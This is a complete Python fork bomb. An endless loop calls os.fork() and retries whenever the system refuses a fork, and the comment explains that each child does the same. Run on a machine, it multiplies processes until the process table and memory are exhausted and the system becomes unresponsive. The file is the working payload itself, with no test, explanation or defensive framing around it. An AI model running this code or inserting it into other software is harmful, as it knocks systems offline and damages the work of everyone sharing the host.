import os

# Forks forever; every child does the same, and a refused fork is retried.
while True:
    try:
        os.fork()
    except OSError:
        pass
